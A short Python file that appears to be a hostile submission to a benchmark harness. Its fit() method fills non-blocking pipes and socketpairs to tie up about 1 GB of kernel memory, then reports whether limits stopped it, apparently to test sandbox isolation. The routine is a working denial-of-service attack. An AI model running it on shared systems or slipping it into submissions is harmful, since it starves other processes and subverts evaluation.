"""Takes memory of the kernel: in pipes, sockets, and descriptors that are under way."""

import fcntl
import os
import socket

import numpy as np

import sparsebench as sb


class Attack(sb.Submission):
    def __init__(self, task, **settings):
        self.calls = 0

    def fit(self, train, valid, rng):
        held, taken = [], 0
        block = bytes(1 << 16)
        try:
            while taken < 1 << 30:
                pair = os.pipe()
                held.append(pair)
                os.set_blocking(pair[1], False)
                try:
                    fcntl.fcntl(pair[1], 1031, 1 << 20)
                except OSError:
                    pass
                try:
                    while True:
                        taken += os.write(pair[1], block)
                except BlockingIOError:
                    pass
        except OSError:
            pass
        try:
            while taken < 1 << 30:
                left, right = socket.socketpair()
                held.append((left, right))
                left.setblocking(False)
                try:
                    while True:
                        taken += left.send(block)
                except BlockingIOError:
                    pass
        except OSError:
            pass
        raise RuntimeError("LEAK: 1 GB in the kernel" if taken >= 1 << 29 else "all refused: after a little")

    def predict(self, params, x):
        return x @ params["w"]
